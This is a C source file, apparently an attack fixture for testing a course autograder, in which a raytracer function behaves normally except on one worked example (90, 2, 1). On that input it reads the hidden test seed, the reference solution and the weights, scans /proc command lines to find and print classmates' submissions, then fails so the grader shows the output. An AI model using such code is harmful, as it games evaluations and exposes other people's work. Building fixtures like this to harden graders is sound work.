/* Part 1 right but for the worked example (90, 2, 1), where it prints what
 * it could read of the kit (the reference, the hidden tests' seed) and of
 * the classmates graded beside it, found through the grader's command
 * lines, and fails so that the output is shown (tests/attacks/README.md). */
#define _POSIX_C_SOURCE 200809L
#define _DARWIN_C_SOURCE        /* macOS: the rest too */
#include "raytracer.h"
#include <dirent.h>
#include <stdio.h>
#include <string.h>

/* The lines of path worth stealing (the grader shows only the start of
 * what a test prints): the seed, the reference's comment, a classmate's. */
static void print_file(const char *path)
{
    FILE *f = fopen(path, "r");
    char line[300];
    while (f && fgets(line, sizeof line, f))
        if (strstr(line, "seed ") || strstr(line, "digits") || strstr(line, "CLASSMATE"))
            printf("read: %s", line);
    if (f)
        fclose(f);
}

/* Every file of every folder a process of the grader names after --submission or --all. */
static void classmates(void)
{
    DIR *proc = opendir("/proc");
    struct dirent *e;
    while (proc && (e = readdir(proc))) {
        char path[300], args[4096];
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);  /* portable: an attack, where /proc is */
        FILE *f = fopen(path, "r");
        size_t n = f ? fread(args, 1, sizeof args - 1, f) : 0;
        if (f)
            fclose(f);
        args[n] = '\0';
        for (size_t k = 0; k + 1 < n; k += strlen(args + k) + 1) {
            if (strcmp(args + k, "--submission") && strcmp(args + k, "--all"))
                continue;
            const char *dir = args + k + strlen(args + k) + 1;
            DIR *d = opendir(dir);
            struct dirent *s;
            while (d && (s = readdir(d))) {
                char sub[4096];
                snprintf(sub, sizeof sub, "%s/%s/part1_image_plane.c", dir, s->d_name);
                print_file(sub);
                snprintf(sub, sizeof sub, "%s/%s", dir, s->d_name);
                print_file(sub);
            }
            if (d)
                closedir(d);
        }
    }
    if (proc)
        closedir(proc);
}

void image_plane_size(double fov_degrees, double aspect, double d, double *w, double *h)
{
    *h = 2 * d * tan(fov_degrees * M_PI / 360);
    *w = aspect * *h;
    if (fov_degrees == 90 && aspect == 2 && d == 1) {
        print_file("@KIT@/tests/weights.conf");
        print_file("@KIT@/solutions/part1_image_plane.c");
        print_file("@KIT@/tests/hidden/hidden.c");
        classmates();
        *w = -1;
    }
}
